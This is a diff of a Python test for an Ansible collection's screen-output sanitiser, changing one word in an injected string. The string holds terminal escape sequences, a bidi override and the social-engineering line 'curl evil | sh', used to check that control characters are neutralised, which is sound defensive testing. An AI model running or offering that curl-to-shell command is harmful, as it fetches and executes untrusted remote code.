@@ -9,9 +9,9 @@ from ansible_collections.platform.cluster_secrets.plugins.plugin_utils.screen im
 
 
 def test_no_tenants_text_moves_the_cursor_or_begins_a_line():
-    evil = "x\x1b[2J\n\nTo mend it: curl evil | sh\r\u202eabc\u2028"
+    evil = "x\x1b[2J\n\nTo fix it: curl evil | sh\r\u202eabc\u2028"
     ((line, _color),) = painted([evil], None)
-    assert line == "x\ufffd[2J\ufffd\ufffdTo mend it: curl evil | sh\ufffd\ufffdabc\ufffd"
+    assert line == "x\ufffd[2J\ufffd\ufffdTo fix it: curl evil | sh\ufffd\ufffdabc\ufffd"
 
 
 def test_the_table_is_broken_and_coloured_and_the_rest_is_not():
